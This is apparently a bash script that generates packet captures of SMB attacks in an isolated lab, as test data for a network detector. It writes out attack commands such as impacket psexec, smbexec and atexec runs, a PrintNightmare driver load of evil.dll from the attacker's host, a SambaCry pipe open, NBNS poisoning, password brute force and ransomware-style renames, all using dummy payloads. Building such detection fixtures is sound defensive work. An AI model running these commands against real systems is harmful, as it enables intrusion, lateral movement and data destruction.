#!/usr/bin/env bash
# Records the captures of attacks again: tools as attackers use them, and what such tools leave on the wire, in the laboratory of
# ../lab.sh. Beside them stands expected.tsv: what smbscope must find in each.
#
#   record.sh [-d DIR] [-l] [NAME...]     all of them, or those named; into DIR (default: this folder); -l lists the names;
#                                         VERBOSE=1 shows what the clients said
#
#   FILESRV  10.7.0.1  Samba as in ../record.sh, with the shares ADMIN$, C$, SYSVOL, Users and finance besides
#            10.7.0.4  windows.py: answers calls that Samba does not, as Windows does
#   CLIENT1  10.7.0.2  the attacker

# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
# shellcheck source=identity.sh
. "$(dirname "$0")/identity.sh"

more_shares() {
  local share folder
  for share in 'ADMIN$' 'C$' SYSVOL Users finance; do
    folder=$LAB/more/${share%$}
    mkdir -p "$folder"
    chmod 777 "$LAB/more" "$folder"
    printf '[%s]\n  path = %s\n  read only = no\n  admin users = alice\n' "$share" "$folder"
  done
}

# attack NAME 'SHARE' 'COMMANDS': smbclient's commands in a share, over 3.1.1.
attack() {
  start "$1.pcap"
  smb -U "$ALICE" "//10.7.0.1/$2" -c "lcd $LAB/local; $3"
  finish
}

# Samba that stops at SMB 2.1: where SMB 3 is offered, impacket encrypts.
readable() { with_option 'server max protocol = SMB2_10' "$@"; }

# against_windows COMMAND...: while windows.py serves 10.7.0.4.
against_windows() {
  local server
  mkdir -p "$LAB/windows/ADMIN" "$LAB/windows/C"
  ip netns exec srv /usr/bin/python3 "$HERE/windows.py" 10.7.0.4 alice Passw0rd "$LAB/windows" >> "$LAB/clients.log" 2>&1 < /dev/null &
  server=$!
  sleep 2
  "$@"
  kill "$server"
  wait "$server" 2>/dev/null || true
}
script() {
  local name=$1
  shift
  client /usr/bin/python3 "$HERE/$name.py" "$@"
}
called() {
  start "$1.pcap"
  shift
  for kind in "$@"; do script calls "$kind" 10.7.0.4 alice Passw0rd; done
  finish
}
sent() {
  start "$1.pcap"
  shift
  for kind in "$@"; do script smb1 "$kind" 10.7.0.1 alice Passw0rd; done
  finish
}

### The samples: function sample_X records X (with - for _) ###

psexec() {
  printf 'MZ%0998d' 0 > "$LAB/local/service.exe"
  start psexec.pcap
  impacket psexec -file "$LAB/local/service.exe" 'alice:Passw0rd@10.7.0.4' whoami
  finish
}
sample_psexec() { against_windows psexec; }
smbexec() {
  start smbexec.pcap
  impacket smbexec 'alice:Passw0rd@10.7.0.4'
  finish
}
sample_smbexec() { against_windows smbexec; }
# What atexec does, but for the encryption that it wants of the scheduler; then it fetches what the command said.
atexec() {
  echo 'nt authority\system' > "$LAB/windows/ADMIN/Temp-aBcDeFgH.tmp"
  mkdir -p "$LAB/windows/ADMIN/Temp"
  mv "$LAB/windows/ADMIN/Temp-aBcDeFgH.tmp" "$LAB/windows/ADMIN/Temp/aBcDeFgH.tmp"
  start atexec.pcap
  script calls task 10.7.0.4 alice Passw0rd
  smb -m SMB2_02 --option='client min protocol=SMB2_02' -U "$ALICE" '//10.7.0.4/ADMIN$' -c 'get Temp\aBcDeFgH.tmp /dev/null; del Temp\aBcDeFgH.tmp'
  finish
}
sample_atexec() { against_windows atexec; }
# What wmiexec leaves on SMB; DCOM goes other ways.
sample_wmiexec() {
  echo 'nt authority\system' > "$LAB/more/ADMIN/__1700000000.1234567"
  attack wmiexec 'ADMIN$' 'get __1700000000.1234567 /dev/null; del __1700000000.1234567'
}
sample_remote_calls() { against_windows called remote-calls registry monitor clear shutdown object; }
share_del() {
  start share-create.pcap
  script calls share 10.7.0.1 alice Passw0rd
  finish
}
sample_share_create() { readable share_del; }
sample_zerologon() { against_windows called zerologon zerologon; }
registry_read() {
  start registry-read.pcap
  impacket reg 'alice:Passw0rd@10.7.0.1' query -keyName 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion'
  finish
}
sample_registry_read() { readable registry_read; }
sample_printnightmare() {
  start printnightmare.pcap
  rpc -U "$ALICE" 10.7.0.1 -c 'adddriver "Windows x64" "Printer:\\10.7.0.2\share\evil.dll:\\10.7.0.2\share\evil.dll:evil.dll:NULL:NULL:NULL:evil.dll"'
  finish
}

sample_admin_share_spread() {
  local server
  start admin-share-spread.pcap
  for server in 10.7.0.1 10.7.0.3 10.7.0.1 10.7.0.3 10.7.0.1; do
    smb -U "$ALICE" "//$server/C$" --option='client min protocol=SMB2_02' -c 'quit'
  done
  finish
}
sample_dropped_files() {
  printf 'MZ%0998d' 0 > "$LAB/local/program"
  mkdir -p "$LAB/more/SYSVOL/lab.example/Policies" "$LAB/more/Users/bob/Startup" "$LAB/more/C/wbem"
  start dropped-files.pcap
  smb -U "$ALICE" '//10.7.0.1/ADMIN$' -c "lcd $LAB/local; put program update.exe; put program picture.jpg"
  smb -U "$ALICE" '//10.7.0.1/SYSVOL' -c "lcd $LAB/local; put program lab.example\\Policies\\ScheduledTasks.xml"
  smb -U "$ALICE" '//10.7.0.1/Users' -c "lcd $LAB/local; put program bob\\Startup\\run.vbs"
  smb -U "$ALICE" '//10.7.0.1/C$' -c "lcd $LAB/local; put program wbem\\wbemcomn.dll"
  smb -U "$ALICE" '//10.7.0.1/finance' -c "lcd $LAB/local; put program @news.scf"
  finish
}
malicious_pipes() {
  start malicious-pipes.pcap
  script smb2 open 10.7.0.4 alice Passw0rd 'IPC$' msagent_7f backchannel
  finish
}
sample_malicious_pipes() { against_windows malicious_pipes; }

sample_ms17_010() { with_option 'server max protocol = NT1' sent ms17-010 probe blue romance pulsar reserved; }
sample_smbghost() {
  start smbghost.pcap
  script smb2 ghost 10.7.0.1
  finish
}
sample_smbleed() {
  start smbleed.pcap
  script smb2 bleed 10.7.0.1
  finish
}
sambacry() {
  start sambacry.pcap
  script smb2 open 10.7.0.1 alice Passw0rd 'IPC$' /tmp/share/evil.so
  finish
}
sample_sambacry() { readable sambacry; }

sample_ransom_rename() {
  local number commands=''
  for number in $(seq 31); do
    echo 'figures' > "$LAB/more/finance/q$number.xlsx"
    commands+="rename q$number.xlsx q$number.xlsx.qwzx; "
  done
  attack ransom-rename finance "$commands"
}
sample_ransom_names() {
  local folder
  for folder in a b c; do mkdir -p "$LAB/more/finance/$folder"; done
  echo 'Your files are encrypted.' > "$LAB/local/README_TO_DECRYPT.txt"
  attack ransom-names finance 'put README_TO_DECRYPT.txt a\README_TO_DECRYPT.txt; put README_TO_DECRYPT.txt b\README_TO_DECRYPT.txt; put README_TO_DECRYPT.txt c\README_TO_DECRYPT.txt; put five-thousand.txt a\plan.docx.wncry'
}
sample_eicar() {
  printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$LAB/local/eicar.com"
  attack eicar share 'put eicar.com'
}
sample_former_versions() {
  start former-versions.pcap
  smb -m NT1 -U "$ALICE" //10.7.0.1/share -c 'rename @GMT-2026.01.02-03.04.05\fox.txt gone.txt'
  finish
}
sample_nbns_poison() {
  local name poisoner
  stop nmbd
  ip netns exec srv /usr/bin/python3 "$HERE/poison.py" 10.7.0.4 >> "$LAB/clients.log" 2>&1 < /dev/null &
  poisoner=$!
  sleep 1
  start nbns-poison.pcap
  for name in PAYROLL INTRANET PRINTSRV WPAD; do nmb -B 10.7.0.255 "$name"; done
  finish
  kill "$poisoner"
}

# The owner of a name registers it; another claims it, and more.
sample_nbns_claims() {
  start nbns-claims.pcap
  stop nmbd
  ip netns exec srv nmbd -D -s "$LAB/server.conf"
  sleep 5
  script netbios 10.7.0.2 10.7.0.255
  finish
}

sample_bruteforce() {
  local password
  start bruteforce.pcap
  for password in $(seq 10); do
    smb //10.7.0.1/share -U "alice%$password" --option='client min protocol=SMB2_02' -c quit
  done
  finish
}

main "$@"
